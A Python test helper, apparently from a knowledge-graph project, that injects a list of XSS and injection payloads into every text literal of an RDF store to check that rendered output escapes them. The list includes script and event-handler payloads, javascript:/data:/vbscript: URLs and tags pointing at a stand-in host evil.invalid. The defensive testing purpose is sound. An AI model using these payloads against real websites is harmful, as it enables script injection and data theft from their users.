"""Strings that must stay text wherever they stand, and a store in which every text is one of them."""

from collections.abc import Iterator
from itertools import cycle

from pyoxigraph import DefaultGraph, Literal, NamedNode, Quad, Store

from kg.graph.namespaces import BASE, term

VECTORS = (
    "<img src=x onerror=__pwn(1)>",
    "</script><script>__pwn(2)</script>",
    "</title></style><script>__pwn(3)</script>",
    '"><svg onload=__pwn(4)>',
    "' onmouseover='__pwn(5)' x='",
    "javascript:__pwn(6)",
    "<iframe srcdoc='<script>parent.__pwn(7)</script>'>",
    "<a href=javascript:__pwn(8)>href</a>",
    "{{ 7*7 }}{% raw %}",
    "${__pwn(9)}`",
    "<!--<script>",
    "]]><svg/onload=__pwn(10)>",
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=https://evil.invalid/a.css>",
    "<style>@import 'https://evil.invalid/b.css';</style>",
    "url(https://evil.invalid/c.png)",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "<form action=https://evil.invalid><input name=q></form>",
    "\u202eobnegeR\u2066x\u2069",
    "__proto__",
    "constructor",
    "toString",
    "<object data=https://evil.invalid/d>",
    "\u2028__pwn(11)\u2029",
    "=HYPERLINK(1)",
    "&lt;img src=x&gt;",
    "\\u003cscript\\u003e",
)
ADDRESSES = ("javascript:__pwn(20)", "data:text/html,%3Cscript%3E__pwn(21)%3C/script%3E", "vbscript:__pwn(22)")
_KEPT = {
    term(name)
    for name in (
        "nj:start nj:end nj:since nj:until nj:date nj:period nj:value nj:kind nj:confidence nj:slot skos:notation "
        "schema:datePublished schema:inLanguage geo:lat geo:long oa:start oa:end"
    ).split()
}


def hostile_store(store: Store) -> Store:
    """The same graph with a vector before every text, and addresses that are scripts."""
    changed = Store()
    vectors = cycle(VECTORS)
    changed.bulk_extend(_changed(quad, vectors) for quad in sorted(store, key=str))
    place = NamedNode(BASE + "id/place/praefektur-osaka")
    for address in ADDRESSES:
        changed.add(Quad(place, term("owl:sameAs"), NamedNode(address), DefaultGraph()))
    return changed


def _changed(quad: Quad, vectors: Iterator[str]) -> Quad:
    value = quad.object
    if not isinstance(value, Literal) or quad.predicate in _KEPT:
        return quad
    text = next(vectors) + value.value
    spoken = Literal(text, language=value.language) if value.language else Literal(text)
    return Quad(quad.subject, quad.predicate, spoken, quad.graph_name)
